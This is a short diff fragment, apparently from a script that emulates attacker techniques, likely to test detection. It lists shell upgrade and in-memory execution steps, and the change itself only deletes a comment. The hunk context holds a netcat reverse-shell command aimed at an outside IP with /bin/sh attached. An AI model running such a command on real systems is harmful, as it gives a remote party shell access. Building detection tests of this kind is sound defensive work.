@@ -20,7 +20,6 @@ timeout 1 busybox nc 203.0.113.9 4445 -e /bin/sh
 ## Terminal made for a shell
 timeout 1 python3 -c 'import pty; pty.spawn("/bin/true")'
 ## Executable run from memory
-#also File in memory made, then run
 #also Interpreter makes a file in memory
 python3 -c '
 import os
